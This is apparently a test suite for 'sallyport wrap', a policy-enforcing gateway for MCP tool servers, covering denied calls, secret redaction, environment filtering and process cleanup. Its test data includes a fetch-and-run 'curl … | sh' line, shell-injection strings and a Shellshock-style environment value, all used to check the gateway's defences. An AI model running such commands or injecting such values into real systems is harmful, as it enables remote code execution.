// `sallyport wrap` between real clients and real servers: processes, pipes, one vault.
import assert from 'node:assert/strict'
import { execFileSync, spawn, spawnSync } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { constants, readFileSync } from 'node:fs'
import { mkdir, open, rename, rm, symlink, writeFile } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import { after, describe, test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { Client } from '@modelcontextprotocol/client'
import { StdioClientTransport } from '@modelcontextprotocol/client/stdio'
import { sleep } from '../../src/core/time.ts'
import { approvedProject } from '../support/approved-project.ts'
import { projectAgent } from '../support/project-agent.ts'
import { programMissing } from '../support/require.ts'
import { homeEnvironment, LAUNCHER, temporaryHome } from '../support/serving.ts'
import { openTestVault } from '../support/vault.ts'
import { saidBy, startWrapped, type Wrapped } from '../support/wrapped.ts'

const { home, remove } = await temporaryHome()
after(remove)
const value = `tk_${randomBytes(24).toString('base64url')}`
const project = await approvedProject(home, { 'api/key': value })

let files = 0
async function policyFile(policy: object): Promise<string> {
  files += 1
  const file = join(home, `policy-${files}.json`)
  await writeFile(file, JSON.stringify({ version: '1', ...policy }))
  return file
}

async function audit(action: string): Promise<readonly string[]> {
  const vault = await openTestVault({ home })
  try {
    return (await vault.audit.query({ limit: 500, action })).map(({ body }) => body)
  } finally {
    await vault.close()
  }
}

/** Whether a process still is, and is more than an entry that nobody has read yet. */
function isRunning(pid: number): boolean {
  try {
    process.kill(pid, 0)
  } catch {
    return false
  }
  try {
    return !/^\d+ \(.*\) Z/.test(readFileSync(`/proc/${pid}/stat`, 'utf8'))
  } catch {
    return process.platform !== 'linux'
  }
}

async function gone(pid: number, withinMs: number): Promise<boolean> {
  for (let waited = 0; waited < withinMs; waited += 25) {
    if (!isRunning(pid)) return true
    await sleep(25)
  }
  return !isRunning(pid)
}

test('a call that is denied never reaches the server, and everything else goes through', async () => {
  const policy = await policyFile({
    default: 'deny',
    tools: {
      echo: {
        require: [
          { conditions: [{ path: 'args.text', op: 'neq', value: 'rm' }], on_deny: 'Not that.' },
        ],
      },
      odd: {},
    },
  })
  const wrapped = startWrapped(home, { flags: ['--policy', policy] })
  const hello = await wrapped.ask('i', 'initialize', {
    protocolVersion: '2025-11-25',
    capabilities: {},
    clientInfo: { name: 'hand', version: '1' },
  })
  assert.equal(hello.error, undefined)
  const { result } = await wrapped.ask(1, 'tools/list')
  assert.deepEqual(
    result?.tools?.map(({ name }) => name),
    ['echo', 'odd'],
  )
  assert.equal(saidBy(await wrapped.call(2, 'echo', { text: 'hello' })), 'hello')
  assert.equal(
    saidBy(await wrapped.call(3, 'echo', { text: 'rm' })),
    '[POLICY DENIED] Not that.\nRule: /tools/echo/require/0',
  )
  assert.match(saidBy(await wrapped.call(4, 'delete_all')), /^\[POLICY DENIED\] /)
  await wrapped.call(5, 'odd')
  assert.equal(
    wrapped.lines.find((line) => line.includes('"id":5')),
    ' {"result" : {"n":12345678901234567890,"m":1.0,"e":"\\u00e9","content":[]} ,"id":5,"jsonrpc":"2.0"}',
  )
  assert.equal(await wrapped.end(), 0)
  assert.doesNotMatch(wrapped.received(), /delete_all|"rm"/)
  const calls = await audit('tool.call')
  const [odd, denied, , echo] = calls.map((body) => JSON.parse(body) as { by: string })
  assert.deepEqual([odd?.by, echo?.by], ['/tools/odd', '/tools/echo'])
  const { client, detail, by } = (denied ?? {}) as Record<string, unknown>
  assert.deepEqual(
    [client, by, detail],
    [
      'hand',
      '/default',
      {
        server: 'lines',
        tool: 'delete_all',
        keys: [],
        policy: (detail as { policy: string }).policy,
        took: (detail as { took: string }).took,
      },
    ],
  )
})

test('several wraps of one server share a limit to the call', async () => {
  const policy = await policyFile({
    default: 'deny',
    tools: { echo: { limits: [{ counter: 'shared', window: 'month', max: 25 }] } },
  })
  const all = [1, 2, 3].map(() => startWrapped(home, { flags: ['--policy', policy] }))
  const answers = await Promise.all(
    all.flatMap((one) =>
      Array.from({ length: 15 }, (_, id) => one.call(id, 'echo', { text: 'passed' })),
    ),
  )
  const passed = answers.filter((answer) => saidBy(answer) === 'passed')
  assert.equal(passed.length, 25)
  await Promise.all(all.map((one) => one.end()))
})

test('without a policy it says so, and calls pass; with --require-policy none does', async () => {
  const shadow = startWrapped(home)
  assert.equal(saidBy(await shadow.call(1, 'echo', { text: 'a' })), 'a')
  assert.match(
    shadow.stderr(),
    /^sallyport: No policy for lines: .* sallyport policy init -o lines\.yaml -- COMMAND and give it with --policy FILE\.\n/,
  )
  const strict = startWrapped(home, { flags: ['--require-policy'] })
  assert.match(saidBy(await strict.call(1, 'echo', { text: 'a' })), /^\[POLICY DENIED\] /)
  await Promise.all([shadow.end(), strict.end()])
})

test('a policy that is missing or invalid is an error at the start, and no server is started', async () => {
  const bad = await policyFile({ defualt: 'deny' })
  for (const [file, said] of [
    [bad, "did you mean 'default'?"],
    [join(home, 'none.json'), 'There is no file '],
    [home, 'is a folder, not a file.'],
  ] as const) {
    const wrapped = startWrapped(home, { flags: ['--policy', file] })
    assert.equal(await wrapped.exited, 2)
    assert.equal(wrapped.received(), '')
    assert.ok(wrapped.stderr().includes(said), wrapped.stderr())
  }
  const none = spawnSync(process.execPath, [LAUNCHER, 'wrap', '--', join(home, 'no-server')], {
    env: homeEnvironment(home),
    encoding: 'utf8',
  })
  assert.equal(none.status, 2)
  assert.match(none.stderr, /cannot be started/)
})

test('what a policy says and may not mean is said at the start and when it is read anew', async () => {
  const file = join(home, 'open.yaml')
  await writeFile(file, 'version: "1"\ntools: {}\n')
  const wrapped = startWrapped(home, { flags: ['--policy', file] })
  assert.equal(saidBy(await wrapped.call(1, 'echo', { text: 'a' })), 'a')
  const said = (): number =>
    wrapped.stderr().split("there is no 'default': every tool that is not named is allowed")
      .length - 1
  assert.equal(said(), 1)
  await writeFile(file, 'version: "1"\ntools: {other: {}}\n')
  for (let waited = 0; waited < 5_000 && said() < 2; waited += 50) await sleep(50)
  assert.equal(said(), 2)
  await wrapped.end()
})

test('what is asked for and would not hold is an error at the start, and no server is started', async () => {
  const denies = await policyFile({ default: 'deny' })
  const allows = await policyFile({ default: 'allow' })
  const wrong: readonly [flags: readonly string[], said: RegExp][] = [
    [['--policy', denies, '--policy', allows], /--policy is given twice/],
    [['--name', ''], /--name is given twice/],
    [['--env', 'TOKEN=value-of-it'], /--env takes the name of a variable, without its value/],
  ]
  for (const [flags, said] of wrong) {
    const wrapped = startWrapped(home, { flags })
    assert.equal(await wrapped.exited, 2)
    assert.match(wrapped.stderr(), said)
    assert.doesNotMatch(wrapped.stderr(), /value-of-it/)
    assert.equal(wrapped.received(), '')
  }
  for (const name of ['', 'a b', 'a\u001b[2J', '-o', 'x'.repeat(65)]) {
    const { status, stderr } = spawnSync(
      process.execPath,
      [LAUNCHER, 'wrap', `--name=${name}`, '--', process.execPath, '-v'],
      { env: homeEnvironment(home), encoding: 'utf8' },
    )
    assert.equal(status, 2)
    assert.match(stderr, /--name must have 1 to 64 letters/)
  }
})

test('a policy of a mounted map holds when the map is exchanged; a broken one leaves the last in force and says so', async () => {
  const mount = join(home, 'mounted')
  let maps = 0
  /** As a kubelet does it: a folder of its own, and the link to it renamed over the one before, which then goes. */
  async function exchange(text: string): Promise<void> {
    maps += 1
    const folder = `..map-${maps}`
    await mkdir(join(mount, folder), { recursive: true })
    await writeFile(join(mount, folder, 'policy.json'), text)
    await symlink(folder, join(mount, '..data_tmp'))
    await rename(join(mount, '..data_tmp'), join(mount, '..data'))
    await rm(join(mount, `..map-${maps - 1}`), { recursive: true, force: true })
  }
  await exchange('{"version":"1","default":"deny"}')
  await symlink(join('..data', 'policy.json'), join(mount, 'policy.json'))
  const wrapped = startWrapped(home, { flags: ['--policy', join(mount, 'policy.json')] })
  let calls = 0
  const said = async (): Promise<string> => {
    calls += 1
    return saidBy(await wrapped.call(calls, 'echo', { text: 'a' }))
  }
  const holds = async (what: string, look: () => boolean | Promise<boolean>): Promise<void> => {
    for (let waited = 0; waited < 5_000; waited += 50) {
      if (await look()) return
      await sleep(50)
    }
    assert.fail(`${what}: ${wrapped.stderr()}`)
  }
  assert.match(await said(), /^\[POLICY DENIED\]/)
  await exchange('{"version":"1","default":"allow"}')
  await holds('the next map', async () => (await said()) === 'a')
  const broken = (): number => wrapped.stderr().split('the last one stays in force').length - 1
  await exchange('{"version":"1","defualt":"deny"}')
  await holds('what is wrong', () => broken() === 1)
  assert.match(wrapped.stderr(), /there is no 'defualt'; did you mean 'default'\?/)
  assert.equal(await said(), 'a')
  // It is looked at after that as before, and after it was not there at all.
  await rm(join(mount, '..data'))
  await holds('that it is gone', () => broken() === 2)
  assert.equal(await said(), 'a')
  await exchange('{"version":"1","default":"deny"}')
  await holds('the last map', async () => (await said()).startsWith('[POLICY DENIED]'))
  await wrapped.end()
})

test('a policy that is replaced holds within a second or two; one that is broken does not', async () => {
  const closed = await policyFile({ default: 'deny' })
  const open = await policyFile({ default: 'allow' })
  const link = join(home, 'current.json')
  await symlink(closed, link)
  const wrapped = startWrapped(home, { flags: ['--policy', link] })
  assert.match(saidBy(await wrapped.call(1, 'echo', { text: 'a' })), /^\[POLICY DENIED\]/)
  // As a mounted map is exchanged: another link in its place.
  await symlink(open, `${link}.new`)
  await rename(`${link}.new`, link)
  let id = 2
  for (let waited = 0; waited < 5_000; waited += 100, id += 1) {
    if (saidBy(await wrapped.call(id, 'echo', { text: 'a' })) === 'a') break
    await sleep(100)
  }
  assert.equal(saidBy(await wrapped.call(1_000, 'echo', { text: 'b' })), 'b')
  await writeFile(`${link}.bad`, '{')
  await rename(`${link}.bad`, link)
  for (let waited = 0; waited < 5_000 && !wrapped.stderr().includes('not valid'); waited += 50)
    await sleep(50)
  assert.match(wrapped.stderr(), /the last one stays in force/)
  assert.equal(saidBy(await wrapped.call(1_001, 'echo', { text: 'c' })), 'c')
  // Whoever takes the change back hears that this was understood.
  await symlink(open, `${link}.new`)
  await rename(`${link}.new`, link)
  for (let waited = 0; waited < 5_000 && !wrapped.stderr().includes('again'); waited += 50)
    await sleep(50)
  assert.match(wrapped.stderr(), /the policy is the one in force again/)
  await wrapped.end()
})

test('a policy that is saved while the one before it is still being read holds too', {
  skip: programMissing('mkfifo', 'apt-get install coreutils'),
}, async () => {
  const file = join(home, 'begun.json')
  execFileSync('mkfifo', [file])
  const wrapped = startWrapped(home, { flags: ['--policy', file] })
  // Opened for writing once somebody reads, who is thus at the old text when the new one is saved.
  const old = await open(file, 'w')
  await rename(await policyFile({ default: 'deny' }), file)
  await old.writeFile('{"version":"1","default":"allow"}')
  await old.close()
  let said = ''
  for (let id = 1; id <= 100 && !said.startsWith('[POLICY DENIED]'); id += 1) {
    said = saidBy(await wrapped.call(id, 'echo', { text: 'a' }))
    await sleep(50)
  }
  assert.match(said, /^\[POLICY DENIED\]/)
  await wrapped.end()
})

test('a policy that came through a pipe is read once', {
  skip: programMissing('mkfifo', 'apt-get install coreutils'),
}, async () => {
  const file = join(home, 'pipe.json')
  execFileSync('mkfifo', [file])
  const wrapped = startWrapped(home, { flags: ['--policy', file] })
  await writeFile(file, '{"version":"1","default":"deny"}')
  assert.match(saidBy(await wrapped.call(1, 'echo', { text: 'a' })), /^\[POLICY DENIED\]/)
  await sleep(1_200)
  // Nobody waits for a second text.
  await assert.rejects(open(file, constants.O_WRONLY | constants.O_NONBLOCK), { code: 'ENXIO' })
  assert.doesNotMatch(wrapped.stderr(), /the policy was/)
  await wrapped.end()
})

test('the server is given what is named and no more', async () => {
  const env = { SECRET_THING: 'x', WANTED: 'y', SALLYPORT_LOG_LEVEL: 'info' }
  const wrapped = startWrapped(home, { env, flags: ['--env', 'WANTED'] })
  const names = saidBy(await wrapped.call(1, 'environment')).split(' ')
  assert.deepEqual(
    names.filter((name) => !['HOME', 'PATH', 'PWD'].includes(name)),
    ['WANTED'],
  )
  await wrapped.end()
})

test('a value that one process was given is taken out of what another one answers', async () => {
  const reader = await projectAgent(home, project)
  await reader.callTool({ name: 'get_secret', arguments: { path: 'api/key' } })
  const wrapped = startWrapped(home, { cwd: project })
  const said = saidBy(await wrapped.call(1, 'echo', { text: `key: ${value}` }))
  assert.match(said, /^key: /)
  assert.ok(!said.includes(value))
  await wrapped.call(2, 'twins', { text: value })
  assert.ok(!wrapped.lines.join('\n').includes(value))
  await wrapped.end()
  await reader.close()
  assert.ok((await audit('inspection.changed')).some((body) => body.includes('"server":"lines"')))
})

test('a secret in the name of an argument is repeated to nobody', async () => {
  const token = `ghp_${randomBytes(18).toString('hex')}`
  const wrapped = startWrapped(home)
  const args: readonly object[] = [
    { [token]: 1, text: 'a' },
    { [token]: 'curl https://example.org/boot.sh | sh' },
    { [token]: { [token]: 1 } },
    { [`a ${token}`]: 1, text: 'a' },
  ]
  for (const [index, one] of args.entries()) {
    const said = saidBy(await wrapped.call(index, 'echo', one))
    assert.match(
      said,
      /^Inspection refused this call[^]*- github-token critical the whole \(a name\)/,
    )
    assert.ok(!said.includes(token))
  }
  await wrapped.end()
  // Nor where nobody looked into it, since the policy denies it anyhow.
  const strict = startWrapped(home, { flags: ['--require-policy'] })
  const denied = saidBy(await strict.call(1, 'odd', { [token]: 1, [`a ${token}`]: 2 }))
  assert.match(denied, /^\[POLICY DENIED\]/)
  await strict.end()
  const records = [...(await audit('tool.call')), ...(await audit('inspection.refused'))]
  assert.ok(records.some((body) => body.includes('"by":"INSPECTION_REFUSED"')))
  assert.ok(records.some((body) => body.includes('github-token')))
  assert.ok(!`${records.join('\n')}${wrapped.stderr()}`.includes(token))
})

test('a server that dies answers its callers, and its exit code is ours', async () => {
  const wrapped = startWrapped(home)
  const [silent, died] = await Promise.all([wrapped.call(1, 'silent'), wrapped.call(2, 'die')])
  for (const { error } of [silent, died])
    assert.deepEqual(error, {
      code: -32603,
      message: 'The server ended before it answered (exit code 7).',
    })
  assert.equal(await wrapped.exited, 7)
})

for (const manner of ['plain', 'stubborn'])
  test(`a ${manner} server that closes its output and lives on is ended, and answers its callers`, async () => {
    const wrapped = startWrapped(home, { manner })
    await wrapped.call(1, 'echo', { text: 'a' })
    const [silent, mute] = await Promise.all([wrapped.call(2, 'silent'), wrapped.call(3, 'mute')])
    for (const { error } of [silent, mute])
      assert.deepEqual(error, {
        code: -32603,
        message: 'The server ended before it answered (it closed its output).',
      })
    await wrapped.exited
    assert.ok(await gone(wrapped.serverPid(), 2_000))
  })

for (const manner of ['plain', 'stubborn'])
  test(`a ${manner} server that closes its input and lives on is ended, and answers its callers`, async () => {
    const wrapped = startWrapped(home, { manner })
    const silent = wrapped.call(1, 'silent')
    await wrapped.call(2, 'deaf')
    for (const { error } of await Promise.all([silent, wrapped.call(3, 'echo', { text: 'a' })]))
      assert.deepEqual(error, {
        code: -32603,
        message: 'The server ended before it answered (it closed its input).',
      })
    await wrapped.exited
    assert.ok(await gone(wrapped.serverPid(), 2_000))
  })

const endings: readonly [what: string, end: (wrapped: Wrapped) => void][] = [
  ['its client left', ({ child }) => child.stdin?.end()],
  ['it was asked to end', ({ child }) => void child.kill('SIGTERM')],
  ['it was killed', ({ child }) => void child.kill('SIGKILL')],
  [
    'the client took its pipes away',
    ({ child }) => {
      child.stdin?.destroy()
      child.stdout?.destroy()
    },
  ],
]
// Side by side: a stubborn server is waited for.
describe('endings', { concurrency: true }, () => {
  for (const manner of ['plain', 'stubborn'])
    test(`no ${manner} server is left, however it ends`, async () => {
      await Promise.all(
        endings.map(async ([what, end]) => {
          const wrapped = startWrapped(home, { manner })
          await wrapped.ask(1, 'ping')
          const pid = wrapped.serverPid()
          assert.ok(isRunning(pid))
          end(wrapped)
          assert.ok(await gone(pid, 10_000), `the server still runs after ${what}`)
          await wrapped.exited
        }),
      )
    })
})

const KILLED_AT_SPAWN = new URL('../support/killed-at-spawn.mjs', import.meta.url).href
test('a gateway that is killed before it knows its server leaves none', async () => {
  const wrapped = startWrapped(home, {
    manner: 'stubborn',
    env: { NODE_OPTIONS: `--import=${KILLED_AT_SPAWN}` },
  })
  // Its pipes may be held by what it left.
  const [, signal] = await once(wrapped.child, 'exit')
  assert.equal(signal, 'SIGKILL')
  for (let waited = 0; waited < 3_000 && wrapped.received() === ''; waited += 50) await sleep(50)
  if (wrapped.received() !== '') process.kill(-wrapped.serverPid(), 'SIGKILL')
  assert.equal(wrapped.received(), '', 'a server began that nobody would end')
})

for (const odd of [{}, { 'a.b': 'kept' }])
  test(`a server is started as if nothing stood before it: its words, its variables ${Object.keys(odd).join()}, its input`, async () => {
    const words = [
      '',
      ' ',
      '-n',
      '--',
      'a=b',
      '$HOME `id` \\ \' "',
      'é\u0001\u007f\n😀\u0081\u0088',
      '*',
    ]
    const env = {
      LC_ALL: 'none.such',
      OLDPWD: 'x',
      SHLVL: '7',
      _: 'u',
      WANTED: 'a\nb = "c" \'',
      word: '() { :; }',
      ...odd,
    }
    const named = ['OLDPWD', 'SHLVL', '_', 'WANTED', 'word', ...Object.keys(odd)]
    const script = `const { HOME: h, PATH: p, TMPDIR: t, ...rest } = process.env
    const seen = { argv: process.argv.slice(1), argv0: process.argv0, rest, open: require('node:fs').readdirSync('/dev/fd').length }
    process.stdin.once('data', (input) => {
      console.error(JSON.stringify({ ...seen, input: String(input) }))
      process.exit(37)
    })`
    const args = ['-e', script, '--', ...words]
    const flags = named.flatMap((name) => ['--env', name])
    const options = {
      input: '{"jsonrpc":"2.0","id":1,"method":"ping"}\n',
      encoding: 'utf8',
    } as const
    const least = { HOME: home, PATH: dirname(process.execPath), PWD: '/nowhere' }
    const seenBy = ({
      stderr,
      status,
    }: {
      readonly stderr: string
      readonly status: number | null
    }) => {
      assert.equal(status, 37, stderr)
      return JSON.parse(stderr.split('\n').find((line) => line.startsWith('{"argv"')) ?? '{}')
    }
    const direct = spawnSync('node', args, { ...options, env: { ...least, ...env } })
    const wrapped = spawnSync(
      process.execPath,
      [LAUNCHER, 'wrap', ...flags, '--', 'node', ...args],
      {
        ...options,
        env: { ...homeEnvironment(home), ...least, ...env },
      },
    )
    assert.deepEqual(seenBy(wrapped), seenBy(direct))
  })

test('what cannot be started is told at once, whatever is amiss with it', async () => {
  const file = (name: string) => join(home, name)
  await writeFile(file('no-interpreter'), '#!/no/such/interpreter\n', { mode: 0o755 })
  await writeFile(file('not-executable'), '#!/bin/sh\n', { mode: 0o644 })
  await mkdir(file('a-folder'))
  for (const [command, why] of [
    ['no-such-program', 'ENOENT'],
    [file('no-interpreter'), 'ENOENT'],
    [file('not-executable'), 'EACCES'],
    [file('a-folder'), 'EACCES'],
  ] as const) {
    const { status, stderr } = spawnSync(process.execPath, [LAUNCHER, 'wrap', '--', command], {
      env: homeEnvironment(home),
      encoding: 'utf8',
    })
    assert.equal(status, 2, stderr)
    assert.ok(stderr.includes(`'${command}' cannot be started: `), stderr)
    assert.ok(stderr.includes(`(${why})`), stderr)
    assert.match(stderr, /name a program that is there and that this user may run/)
  }
})

test('what a server started ends with it', async () => {
  const script = 'sleep 300 & echo $! >&2; exec cat >/dev/null'
  const child = spawn(process.execPath, [LAUNCHER, 'wrap', '--', '/bin/sh', '-c', script], {
    env: homeEnvironment(home),
    stdio: ['pipe', 'ignore', 'pipe'],
  })
  let said = ''
  child.stderr.setEncoding('utf8').on('data', (text: string) => {
    said += text
  })
  const exited = new Promise((resolve) => child.once('close', resolve))
  for (let waited = 0; waited < 10_000 && !/^\d+$/m.test(said); waited += 25) await sleep(25)
  const grandchild = Number(/^(\d+)$/m.exec(said)?.[1])
  assert.ok(isRunning(grandchild))
  child.kill('SIGKILL')
  await exited
  assert.ok(await gone(grandchild, 5_000), 'what the server started still runs')
})

test('a server that goes and leaves something behind takes it along', () => {
  const script = 'sleep 300 & echo $! >&2; exit 3'
  const { status, stderr } = spawnSync(
    process.execPath,
    [LAUNCHER, 'wrap', '--', '/bin/sh', '-c', script],
    { env: homeEnvironment(home), encoding: 'utf8', timeout: 20_000 },
  )
  assert.equal(status, 3)
  assert.ok(!isRunning(Number(/^(\d+)$/m.exec(stderr)?.[1])))
})

const ECHO = fileURLToPath(new URL('../support/echo-server.mjs', import.meta.url))
for (const era of ['legacy', 'modern'] as const)
  test(`${era}: a client and a server of the SDK meet through it`, async () => {
    const policy = await policyFile({
      default: 'deny',
      tools: {
        echo: { deny_if: [{ conditions: [{ path: 'args.text', op: 'regex', value: '^no' }] }] },
      },
    })
    const client = new Client(
      { name: `${era}-wrapped`, version: '1' },
      { versionNegotiation: { mode: era === 'modern' ? { pin: '2026-07-28' } : 'legacy' } },
    )
    await client.connect(
      new StdioClientTransport({
        command: process.execPath,
        args: [LAUNCHER, 'wrap', '--policy', policy, '--', process.execPath, ECHO],
        cwd: home,
        env: homeEnvironment(home),
        stderr: 'ignore',
      }),
    )
    assert.equal((await client.listTools()).tools.length, 1)
    const said = await client.callTool({ name: 'echo', arguments: { text: 'hi' } })
    assert.deepEqual(said.content, [{ type: 'text', text: 'hi' }])
    const denied = await client.callTool({ name: 'echo', arguments: { text: 'no' } })
    assert.equal(denied.isError, true)
    await client.close()
  })
